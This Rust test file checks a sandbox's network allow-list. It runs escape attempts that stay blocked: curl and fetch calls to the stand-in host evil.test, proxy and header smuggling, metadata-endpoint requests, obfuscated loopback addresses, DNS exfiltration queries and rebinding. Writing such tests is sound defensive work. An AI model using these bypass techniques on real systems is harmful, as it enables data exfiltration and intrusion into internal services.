//! What a run with allowed hosts cannot do: each attempt also runs with the grant it lacks, and succeeds there.

use super::outside_world::OutsideWorld;
use crate::harness::Fixture;

/// Python that opens a connection and prints what it receives.
fn python(code: &str) -> String {
    format!("timeout 20 python3 -c '\nimport socket, ssl, struct, sys\n{code}\n' $CA")
}

/// TLS to `address` with `name` as the server name.
fn tls(address: &str, name: &str) -> String {
    let name = if name.is_empty() {
        "None".to_owned()
    } else {
        format!("\"{name}\"")
    };
    python(&format!(
        "c = ssl._create_unverified_context()\ns = c.wrap_socket(socket.create_connection((\"{address}\", 443), 10), \
         server_hostname={name})\ns.sendall(b\"GET /x HTTP/1.1\\r\\nHost: {address}\\r\\n\\r\\n\")\nprint(s.recv(99))"
    ))
}

/// Bytes over TCP.
fn tcp(address: &str, port: u16, bytes: &str) -> String {
    python(&format!(
        "s = socket.create_connection((\"{address}\", {port}), 10)\ns.sendall(b\"{bytes}\")\nprint(s.recv(99))"
    ))
}

/// A request to the proxy.
fn to_proxy(request: &str) -> String {
    python(&format!(
        "s = socket.create_connection((\"127.0.0.1\", 3128), 10)\ns.sendall(b\"{request}\\r\\n\\r\\n\")\nprint(s.recv(99))"
    ))
}

/// A question for a name, sent to an address.
fn ask(address: &str, name: &str) -> String {
    python(&format!(
        "n = b\"\".join(bytes([len(l)]) + l.encode() for l in \"{name}\".split(\".\")) + b\"\\0\"\n\
         q = struct.pack(\"!6H\", 7, 256, 1, 0, 0, 0) + n + struct.pack(\"!HH\", 1, 1)\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(2)\ns.sendto(q, (\"{address}\", 53))\n\
         print(s.recv(512)[3] & 15)"
    ))
}

/// Attempts to reach `evil.test`, `private.test` or their addresses, which succeed if these are allowed. Each with the
/// hosts that must be allowed for it beside `api.test`.
fn attempts() -> Vec<(String, &'static [&'static str])> {
    const EVIL: &[&str] = &["evil.test", "evil.test:80"];
    const EVIL_ADDRESS: &[&str] = &["93.184.215.15:80", "93.184.215.15"];
    vec![
        ("curl -sS -m 20 http://evil.test/".to_owned(), EVIL),
        ("curl -sS -m 20 --noproxy '*' http://evil.test/".to_owned(), EVIL),
        ("curl -sS -m 20 -k https://evil.test/".to_owned(), EVIL),
        ("curl -sS -m 20 -k --noproxy '*' https://evil.test/".to_owned(), EVIL),
        ("curl -sS -m 20 -L http://api.test/redirect".to_owned(), EVIL),
        (
            "curl -sS -m 20 -L --noproxy '*' http://api.test/redirect".to_owned(),
            EVIL,
        ),
        (tls("evil.test", "evil.test"), EVIL),
        (
            tcp("evil.test", 80, "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
            EVIL,
        ),
        (to_proxy("GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test"), EVIL),
        (
            "node -e 'fetch(\"http://evil.test/\").then(r => r.text()).then(console.log)'".to_owned(),
            EVIL,
        ),
        (
            to_proxy("GET http://93.184.215.15/ HTTP/1.1\\r\\nHost: 93.184.215.15"),
            EVIL_ADDRESS,
        ),
        ("curl -sS -m 20 http://93.184.215.15/".to_owned(), EVIL_ADDRESS),
        ("curl -sS -m 20 http://api.test:8080/".to_owned(), &["api.test:8080"]),
        (
            "curl -sS -m 20 http://private.test:8080/".to_owned(),
            &["private.test:8080", "10.1.2.3:8080"],
        ),
        (
            "curl -sS -m 20 http://metadata.test/".to_owned(),
            &["metadata.test:80", "169.254.169.254:80"],
        ),
        (
            "curl -sS -m 20 http://169.254.169.254/".to_owned(),
            &["169.254.169.254:80"],
        ),
    ]
}

/// Attempts for which no grant exists, or whose grant would be another attempt.
fn attempts_without_grant() -> Vec<String> {
    let mut attempts = vec![
        "http_proxy=http://evil.test:80 curl -sS -m 20 http://api.test/".to_owned(),
        "http_proxy= curl -sS -m 20 http://evil.test/".to_owned(),
        tls("api.test", "evil.test"),
        tls("api.test", ""),
        tcp("93.184.215.15", 443, "x"),
        tcp("93.184.215.14", 80, "GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"),
        tcp("api.test", 80, "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
        tcp("api.test", 80, "\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"),
        tcp(
            "api.test",
            80,
            "GET http://evil.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
        ),
        tcp(
            "api.test",
            80,
            "GET / HTTP/1.1\\r\\nHost: api.test\\r\\nHost: evil.test\\r\\n\\r\\n",
        ),
        tcp("api.test", 80, "GET / HTTP/1.0\\r\\n\\r\\n"),
        tcp(
            "api.test",
            80,
            "CONNECT api.test:80 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
        ),
        tcp("api.test", 80, "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"),
        tcp("api.test", 80, "SSH-2.0-x\\r\\n"),
        tcp("api.test", 443, "\\x16\\x03\\x01\\x00\\x05\\x01\\x00\\x00\\x01\\x00"),
        to_proxy("CONNECT evil.test:443 HTTP/1.1"),
        to_proxy("CONNECT evil.test:80 HTTP/1.1\\r\\nHost: api.test:443"),
        to_proxy("CONNECT api.test:22 HTTP/1.1"),
        to_proxy("GET http://api.test/ HTTP/1.1\\r\\nHost: evil.test"),
        to_proxy("GET http://api.test@evil.test/ HTTP/1.1\\r\\nHost: api.test"),
        ask("127.0.0.53", "secret-data.evil.test"),
        ask(
            "127.0.0.53",
            &format!("{}.{}.evil.test", "a".repeat(63), "b".repeat(63)),
        ),
        ask("127.0.0.53", "secret.api.test"),
        ask("127.0.0.1", "evil.test"),
        ask("93.184.215.15", "evil.test"),
        ask("8.8.8.8", "evil.test"),
        "python3 scripts/connect.py udp 93.184.215.15 9999".to_owned(),
        "python3 scripts/connect.py udp 127.0.0.1 9999".to_owned(),
        "python3 scripts/socket_family.py 2 raw 1".to_owned(),
        "python3 scripts/socket_family.py 17 raw 3".to_owned(),
        "python3 scripts/socket_family.py 16 raw 0".to_owned(),
        tcp("::ffff:93.184.215.15", 80, "x"),
        tcp("2606:4700::1", 443, "x"),
        // The proxy port and the ports of hosts are taken before the script starts.
        python("s = socket.socket()\ns.bind((\"127.0.0.1\", 3128))\ns.listen()\nprint(\"listens\")"),
        python(
            "s = socket.socket()\ns.setsockopt(1, 15, 1)\ns.bind((\"0.0.0.0\", 443))\ns.listen()\nprint(\"listens\")",
        ),
    ];
    for address in [
        "127.0.0.1",
        "127.1",
        "0177.0.0.1",
        "0x7f000001",
        "2130706433",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "169.254.169.254",
        "0xa9fea9fe",
        "2852039166",
        "[::ffff:169.254.169.254]",
        "[fd00:ec2::254]",
        "[64:ff9b::a9fe:a9fe]",
        "localhost",
        "api.test%2eevil.test",
        "evil.test%00.api.test",
        "api.test.evil.test",
        "*.test",
        "xn--api-test",
    ] {
        attempts.push(to_proxy(&format!("CONNECT {address}:443 HTTP/1.1")));
        attempts.push(to_proxy(&format!(
            "GET http://{address}/ HTTP/1.1\\r\\nHost: {address}"
        )));
    }
    attempts
}

const ALLOWED: [&str; 2] = ["api.test", "api.test:80"];

/// Runs attempts with the allowed hosts and more, and returns the output.
fn run_attempts(world: &OutsideWorld<'_>, more: &[&str], attempts: &[String]) -> String {
    let hosts: Vec<&str> = ALLOWED.iter().chain(more).copied().collect();
    let script: Vec<String> = attempts
        .iter()
        .map(|attempt| format!("{attempt} 2>&1 | tail -c 600; echo"))
        .collect();
    world.run(&hosts, &script.join("\n")).stdout().to_owned()
}

/// What reached another server than that of `api.test` on its allowed ports, or asked for another name than its.
fn escapes(log: &[String]) -> Vec<&String> {
    log.iter()
        .filter(|line| {
            let is_expected = line.as_str() == "dns api.test"
                || matches!(line.as_str(), "connection 80" | "connection 443" | "tls api.test")
                || line.starts_with("http 80 api.test ");
            !is_expected
        })
        .collect()
}

#[test]
fn s33_nothing_reaches_a_host_that_is_not_allowed() {
    let fixture = Fixture::new();
    let Some(world) = OutsideWorld::open(&fixture) else {
        return;
    };
    let has_node = std::path::Path::new("/usr/bin/node").exists();
    let mut with_grant = attempts();
    with_grant.retain(|(attempt, _)| has_node || !attempt.starts_with("node"));
    let mut commands: Vec<String> = with_grant.iter().map(|(attempt, _)| attempt.clone()).collect();
    commands.extend(attempts_without_grant());
    let output = run_attempts(&world, &[], &commands);
    let log = world.log();
    assert!(escapes(&log).is_empty(), "{log:#?}\n{output}");
    // The control of the log: the allowed part of the redirects arrived.
    assert!(
        log.iter().any(|line| line.starts_with("http 80 api.test /redirect")),
        "{log:#?}"
    );

    for grants in [
        &["evil.test", "evil.test:80"][..],
        &["93.184.215.15:80", "93.184.215.15"],
        &["api.test:8080"],
        &["private.test:8080", "10.1.2.3:8080"],
        &["metadata.test:80", "169.254.169.254:80"],
        &["169.254.169.254:80"],
    ] {
        let commands: Vec<String> = with_grant
            .iter()
            .filter(|(_, needed)| *needed == grants)
            .map(|(attempt, _)| attempt.clone())
            .collect();
        let output = run_attempts(&world, grants, &commands);
        let arrived = world
            .log()
            .iter()
            .filter(|line| line.starts_with("http ") && !line.contains("/redirect"))
            .count();
        assert_eq!(arrived, commands.len(), "{grants:?}: {:#?}\n{output}", world.log());
    }
}

#[test]
fn a_denial_names_the_host_the_rule_and_the_option() {
    let fixture = Fixture::new();
    let Some(world) = OutsideWorld::open(&fixture) else {
        return;
    };
    let command = "curl -sS -m 20 https://evil.test/; curl -sS -m 20 http://evil.test/; \
                   curl -sS -m 20 --noproxy '*' https://other.test/; curl -sS -m 20 http://private.test/";
    let answer = world.run(&["api.test", "private.test:80"], command);
    let body = answer.stdout().lines().find(|line| line.starts_with('{')).unwrap();
    let error: serde_json::Value = serde_json::from_str(body).unwrap_or_else(|_| panic!("{}", answer.describe()));
    assert_eq!(error["error"]["code"], "grant_missing");
    let denials = answer["network"]["denials"].as_array().unwrap();
    let reason_of = |host: &str, port: serde_json::Value| {
        let found = denials
            .iter()
            .find(|denial| denial["host"] == host && denial["port"] == port);
        found.unwrap_or_else(|| panic!("{host}: {denials:?}"))["reason"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    assert!(reason_of("evil.test", 443.into()).contains("--allow-net evil.test:443"));
    assert!(reason_of("evil.test", 80.into()).contains("--allow-net evil.test:80"));
    assert!(reason_of("other.test", serde_json::Value::Null).contains("--allow-net other.test"));
    assert!(reason_of("private.test", 80.into()).contains("--allow-net 10.1.2.3:80"));
    let warnings = answer["warnings"].to_string();
    assert!(
        warnings.contains("evil.test:443 was denied: no rule allows it"),
        "{warnings}"
    );
}

#[test]
fn a_name_that_becomes_private_is_refused_the_second_time() {
    let fixture = Fixture::new();
    let Some(world) = OutsideWorld::open(&fixture) else {
        return;
    };
    let command =
        "for i in 1 2 3; do curl -sS -m 20 --noproxy '*' -o /dev/null -w '%{http_code} ' http://rebind.test/; done";
    let answer = world.run(&["rebind.test:80"], command);
    assert!(answer.stdout().starts_with("200 "), "{}", answer.describe());
    let from_loopback = world
        .log()
        .iter()
        .filter(|line| line.starts_with("http 80 rebind.test"))
        .count();
    let served = answer.stdout().matches("200").count();
    assert_eq!(from_loopback, served, "{:?}", world.log());
    let denials = answer["network"]["denials"].to_string();
    assert!(
        served == 3 || denials.contains("127.0.0.1 is not public"),
        "{}",
        answer.describe()
    );
}

#[test]
fn connections_are_bounded_and_slow_clients_block_only_themselves() {
    let fixture = Fixture::new();
    let Some(world) = OutsideWorld::open(&fixture) else {
        return;
    };
    let code = "held = []\n\
         for i in range(700):\n  \
           try:\n    s = socket.create_connection((\"api.test\", 7000), 3); held.append(s)\n  \
           except OSError: break\n\
         ready = 0\n\
         for s in held:\n  \
           s.settimeout(3)\n  \
           try: ready += s.recv(9) == b\"ready\\n\"\n  \
           except OSError: pass\n\
         print(ready)\n\
         for s in held: s.close()\n\
         import time, urllib.request\n\
         for i in range(50):\n  \
           try: print(urllib.request.urlopen(\"http://api.test/\").read().decode()); break\n  \
           except OSError: time.sleep(0.1)";
    let answer = world.run(&["api.test:7000", "api.test:80"], &python(code));
    let lines: Vec<&str> = answer.stdout().lines().collect();
    let ready: usize = lines
        .first()
        .and_then(|line| line.parse().ok())
        .unwrap_or_else(|| panic!("{}", answer.describe()));
    assert!((1..=128).contains(&ready), "{ready}");
    assert_eq!(lines.get(1), Some(&"hello api.test GET 0"), "{}", answer.describe());
    assert!(
        answer["network"]["denials"]
            .to_string()
            .contains("128 open connections"),
        "{}",
        answer["network"]["denials"]
    );
    let network = &answer["network"];
    assert!(network["connections"].as_array().unwrap().len() <= 100);
    assert!(network["omitted_connections"].as_u64().unwrap() > 0, "{network}");
}
